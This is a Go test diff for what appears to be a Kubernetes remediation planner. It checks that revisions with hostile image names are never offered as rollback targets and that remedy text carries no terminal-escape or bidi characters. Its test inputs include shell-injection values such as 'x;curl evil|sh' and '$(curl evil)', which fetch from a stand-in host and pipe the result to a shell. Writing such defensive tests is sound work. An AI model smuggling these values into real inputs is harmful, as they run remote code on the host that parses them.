@@ -334,6 +334,34 @@ func TestWrongImages(t *testing.T) {
 	}
 }
 
+// A revision's image is what somebody typed: what no kubelet can parse never ran,
+// and is not gone back to.
+func TestNoRevisionWithAHostileImageIsGoneBackTo(t *testing.T) {
+	for _, image := range []string{"x;curl evil|sh", "$(curl evil)", "acme/App:1", "a\x1b[2Jb", "registry.example/acme/app:1\u202e"} {
+		k := remedy.Case{Target: target("Deployment", template(wrong), revision(template(image), 3)), Diagnoses: []diagnosis.Diagnosis{diagnose(t, catalog.TagNotFound, "", "app", wrong)}}
+		for _, r := range plan(t, k, remedy.Options{}) {
+			if r.Ready() {
+				t.Errorf("%q: %s", image, told(r))
+			}
+		}
+		k.Diagnoses[0].Pull.Image = shownAs(image)
+		k.Target = target("Pod", template(image))
+		for _, o := range []remedy.Options{{To: good}, {Recreate: true}} {
+			for _, r := range plan(t, k, o) {
+				for _, s := range slices.Concat([]string{r.Title, r.Because, r.Needs}, r.Risks) {
+					if strings.ContainsAny(s, "\x1b\u202e") {
+						t.Errorf("%s says %q", r.ID, s)
+					}
+				}
+			}
+		}
+	}
+}
+
+func shownAs(image string) string {
+	return strings.NewReplacer("\x1b", "", "\u202e", "").Replace(image)
+}
+
 // What is foreseen is the pod as it will be.
 func TestWhatIsForeseenIsTheChangedPod(t *testing.T) {
 	d := diagnose(t, catalog.TagNotFound, "", "app", wrong)
